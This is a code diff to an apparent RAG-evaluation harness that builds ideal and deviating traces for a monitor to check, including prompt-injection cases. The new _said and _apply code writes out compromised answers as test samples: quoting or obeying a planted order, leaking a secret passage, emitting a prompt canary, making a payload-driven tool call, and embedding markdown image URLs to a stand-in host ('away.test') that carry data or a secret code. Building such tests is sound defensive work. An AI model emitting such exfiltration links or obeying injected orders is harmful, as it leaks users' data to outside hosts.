@@ -2,20 +2,24 @@
 
 The ideal trace is what a correct system would show, as the case's own expectation (the monitor's
 word) has it: no retrieval system takes part. A deviation is written
-`{outcome: {at: WHERE, TAP: CHANGE}}`. WHERE is `twin`, `sibling`, or n: the n-th step of the denied
-reader that can show the tap. TAP is a tap or `must`, the family's first required one.
+`{outcome: {at: WHERE, TAP: CHANGE}}`. WHERE is a mark (`twin`, `sibling`, `contrast`, `live`), or
+n: the n-th step of the denied reader that can show the tap. TAP is a tap or `must`, the family's
+first required one.
 """
 
 from collections.abc import Iterator, Mapping
 from dataclasses import dataclass, field, replace
 from typing import Any
 
+from rageval_kit.detect.canary import PROMPT_CANARY
 from rageval_kit.generate.scene import Scene
+from rageval_kit.generate.words import MARK
 from rageval_kit.records.cases import (
     Apply,
     Ask,
     Case,
     Count,
+    Inventory,
     Observation,
     ReadSink,
     Resolve,
@@ -25,7 +29,7 @@ from rageval_kit.records.cases import (
     Trace,
     Wait,
 )
-from rageval_kit.records.target import Seen, Stage
+from rageval_kit.records.target import Indexed, Seen, Stage, ToolCall
 
 LISTS = (
     Stage.RETRIEVE_SPARSE,
@@ -61,6 +65,7 @@ class Ideal:
     case: Case
     must: tuple[Stage, ...] = ()
     changed: Mapping[tuple[int, int], Mapping[Stage, Seen]] = field(default_factory=dict)
+    listed: Mapping[tuple[int, int], tuple[Indexed, ...]] = field(default_factory=dict)
 
     def trace(self) -> Trace:
         observations = []
@@ -76,6 +81,8 @@ class Ideal:
         ((name, change),) = ((k, v) for k, v in deviation.items() if k != "at")
         tap = self.must[0] if name == "must" else Stage(name)
         place = self.place(deviation["at"], tap)
+        if tap is Stage.INDEX:
+            return replace(self, listed={**self.listed, place: self._listing(place, change)})
         seen = dict(self._seen(*place, self._step(*place)))
         seen[tap] = self._apply(change, seen.get(tap, Seen()))
         return replace(self, changed={**self.changed, place: seen})
@@ -83,7 +90,7 @@ class Ideal:
     def place(self, at: str | int, tap: Stage) -> tuple[int, int]:
         """Step and part of the twin's or the sibling's question, or of the reader's n-th."""
         marks = self.case.expectation.marks
-        if at in {"twin", "sibling"}:
+        if isinstance(at, str):
             return marks[at][0], 0
         steps = [place for place in self.of_reader() if tap in self.showing(place)]
         return steps[int(at) - 1]
@@ -102,20 +109,44 @@ class Ideal:
     def _observation(self, index: int, part: int, step: Step) -> Observation:
         if isinstance(step, Apply | Wait):
             return Observation(index, part, "kit", "", acknowledged=True)
+        if isinstance(step, Inventory):
+            rows = self.listed.get((index, part), self._listing((index, part)))
+            shown = Observation(index, part, step.role, "", {Stage.INDEX: Seen()})
+            return replace(shown, inventory=rows)
         seen = self.changed.get((index, part)) or self._seen(index, part, step)
         kept = {stage: shown for stage, shown in seen.items() if stage in self.scene.taps}
         return Observation(index, part, step.role, step.caller.principal_id, kept)
 
+    def _listing(self, place: tuple[int, int], change: str = "") -> tuple[Indexed, ...]:
+        """The index as the source has it; or an entry too many, too few, of an old model."""
+        source = self.case.expectation.steps[place].source
+        there = [entry for entry in source.entries.values() if entry.gone_at is None]
+        rows = [Indexed(e.chunk_id, e.version_id, e.digest, source.model) for e in there]
+        match change:
+            case "+orphan":
+                rows.append(Indexed("of-no-source"))
+            case "-due":
+                rows.remove(next(r for r, e in zip(rows, there, strict=True) if e.in_force))
+            case "old_model":
+                rows[0] = replace(rows[0], model="old")
+            case "-all":
+                rows.clear()
+        return tuple(rows)
+
     def showing(self, place: tuple[int, int]) -> frozenset[Stage]:
         """The taps that a step can show."""
         step = self._step(*place)
+        if isinstance(step, Inventory):
+            return frozenset({Stage.INDEX})
         if isinstance(step, Count):
             return frozenset({Stage.SUGGEST})
         if isinstance(step, Resolve):
             return frozenset({Stage.CITATION})
         if isinstance(step, ReadSink):
             return frozenset({Stage.LOG})
-        return frozenset({*LISTS, Stage.CACHE, Stage.CONTEXT, Stage.CITATION, Stage.ANSWER})
+        return frozenset(
+            {*LISTS, Stage.CACHE, Stage.CONTEXT, Stage.CITATION, Stage.ANSWER, Stage.TOOL}
+        )
 
     def _seen(self, index: int, part: int, step: Step) -> Mapping[Stage, Seen]:
         expected = self.case.expectation.steps[index, part]
@@ -131,27 +162,65 @@ class Ideal:
 
     def _answered(self, index: int, step: Ask, expected: StepExpectation) -> Mapping[Stage, Seen]:
         """An answer from the passages the reader may see; from the cache where one must be live."""
+        if self.case.expectation.payload is not None:
+            return self._untouched(step, expected)
         marks = self.case.expectation.marks
         ids = self._wanted(step, expected)
         if index in marks.get("sibling", ()) or (index in marks.get("live", ()) and not ids):
             ids = self._readable("sibling", expected)
         texts = self._texts(ids)
+        said = texts
+        if self._of_versions:  # also of a version that an event brought, whose text is not here
+            right = set(self.case.expectation.values) - set(expected.unwanted)
+            said = (*texts, *sorted(right if ids else ()))
+        poisoned = "true" in self.case.expectation.roles  # listed beside the truth, not quoted
+        beside = self._readable("carrier", expected) if poisoned else ()
         shown = {
             Stage.CONTEXT: Seen(ids, texts),
             Stage.CITATION: Seen(ids, ("title",) * len(ids)),
-            Stage.ANSWER: Seen(texts=(" ".join(texts) or "nothing was found",)),
+            Stage.ANSWER: Seen(texts=(" ".join(said) or "nothing was found",)),
         }
         if index == max(marks.get("live", (-1,))):
             return {Stage.CACHE: Seen(ids, texts), **shown}
-        return {Stage.CACHE: Seen(), **{stage: Seen(ids) for stage in LISTS}, **shown}
+        return {Stage.CACHE: Seen(), **{stage: Seen((*ids, *beside)) for stage in LISTS}, **shown}
+
+    def _untouched(self, step: Ask, expected: StepExpectation) -> Mapping[Stage, Seen]:
+        """An answer with the value that the documents state, whatever else they say."""
+        if step.role == "owner":  # who asks for what only a tool knows
+            clock = (ToolCall("clock", "{}"),)
+            return {Stage.ANSWER: Seen(texts=("today",)), Stage.TOOL: Seen(calls=clock)}
+        roles = ("clean",) if step.role == "clean" else ("target", "carrier", "secret")
+        ids = tuple(dict.fromkeys(i for role in roles for i in self._readable(role, expected)))
+        stated = f"The value is {expected.wanted}." if expected.wanted and ids else "no such thing"
+        return {
+            Stage.CACHE: Seen(),
+            **{stage: Seen(ids) for stage in LISTS},
+            Stage.CONTEXT: Seen(ids, ("a passage",) * len(ids)),
+            Stage.CITATION: Seen(ids, ("title",) * len(ids)),
+            Stage.ANSWER: Seen(texts=(stated,)),
+            Stage.TOOL: Seen(),
+        }
 
     def _wanted(self, step: Ask, expected: StepExpectation) -> tuple[str, ...]:
         """What the question asks for: the target, or the crowd's readable part of it."""
+        if step.role == "author":
+            return self._readable("published", expected)
+        if self._of_versions:
+            sources = [r for r in self.case.expectation.roles if r.startswith("other")]
+            wanted = ("target", "sibling", *(sources if not expected.unwanted else ()))
+            ids = (item for role in wanted for item in self._readable(role, expected))
+            return tuple(dict.fromkeys(ids))
         if "relevant" in self.case.expectation.roles:
             return self._readable("relevant", expected)[: step.k]
         if "together" in self.case.expectation.marks:
             return self._in_query(step, expected)
         return self._readable("target", expected)
+
+    @property
+    def _of_versions(self) -> bool:
+        """Whether the case asks what a document's versions, or its neighbours, state."""
+        expectation = self.case.expectation
+        return bool(expectation.kept) or any(r.startswith("version.") for r in expectation.roles)
 
     def _in_query(self, step: Ask, expected: StepExpectation) -> tuple[str, ...]:
         """Many pairs share the step: each question names its own target by title."""
@@ -166,7 +235,8 @@ class Ideal:
         return tuple(sorted(item for item in ids if item in expected.permitted))
 
     def _texts(self, ids: tuple[str, ...]) -> tuple[str, ...]:
-        return tuple(self.scene.places[item].chunk.text for item in ids)
+        places = self.scene.places
+        return tuple(places[item].chunk.text for item in ids if item in places)
 
     def _apply(self, change: str | int, seen: Seen) -> Seen:
         target = tuple(sorted(self.case.expectation.roles["target"]))
@@ -177,7 +247,7 @@ class Ideal:
                 made = replace(seen, texts=(*seen.texts, *self._texts(target)))
             case "+target":
                 made = replace(seen, ids=(*seen.ids, *target), status=seen.status and "ok")
-            case "-target" | "-sibling" | "-relevant":
+            case "-target" | "-sibling" | "-relevant" | "-carrier":
                 gone = self.case.expectation.roles[change[1:]]
                 kept = tuple(item for item in seen.ids if item not in gone)
                 made = replace(seen, ids=kept, texts=self._texts(kept) if seen.texts else ())
@@ -185,6 +255,48 @@ class Ideal:
                 made = Seen(count=None if seen.count is None else 0, status=seen.status)
             case "status":
                 made = replace(seen, status="forbidden")
+            case "+unwanted" | "=unwanted" | "one_value":
+                shown = " ".join(seen.texts)
+                values = sorted(self.case.expectation.values)
+                other = next(v for v in values if (v in shown) == (change == "one_value"))
+                made = replace(seen, texts=(*(seen.texts if change[0] == "+" else ()), other))
+            case "+call":
+                payload = self.case.expectation.payload
+                call = ToolCall(payload.tool, " ".join(payload.derived))
+                made = replace(seen, calls=(call,))
+            case _ if change[1:] in self.case.expectation.roles:
+                made = self._with_role(change, seen)
             case _:
-                raise ValueError(change)
+                made = replace(seen, texts=(*seen.texts, self._said(change)))
         return made
+
+    def _with_role(self, change: str, seen: Seen) -> Seen:
+        """What stands under a role comes to a tap, as ids where it shows ids, as text, or goes."""
+        role = tuple(sorted(self.case.expectation.roles[change[1:]]))
+        if change[0] == "-":
+            return replace(seen, ids=tuple(item for item in seen.ids if item not in role))
+        return replace(
+            seen,
+            ids=(*seen.ids, *role) if seen.ids else (),
+            texts=(*seen.texts, *self._texts(role)) if seen.texts else (),
+        )
+
+    def _said(self, change: str) -> str:
+        """What an answer adds by quoting the payload's order, or by obeying it."""
+        if change == "+prompt":
+            return PROMPT_CANARY
+        expectation = self.case.expectation
+        payload = expectation.payload
+        secret = "".join(self._texts(tuple(expectation.roles.get("secret", ()))))
+        obeyed = {"leak": secret, "citation": f"Source: {payload.decoy}"}
+        derived = " ".join(payload.derived)
+        host = next(iter(payload.hosts), "away.test")
+        site = min(expectation.roles.get("host") or {host})
+        code = "".join(MARK.findall(secret)).strip()[len("[ref ") : -1]
+        return {
+            "+quoted": f'The document says: "{payload.order}"',
+            "+obeyed": obeyed.get(payload.goal, f"The value is {derived}."),
+            "+url": f"![](https://{host}/p.png?d={derived})",
+            "+code": f"It wants `![](https://{host}/p.png)`.",
+            "+secret_url": f"![](https://{site}/p.png?d={code})",
+        }[change]
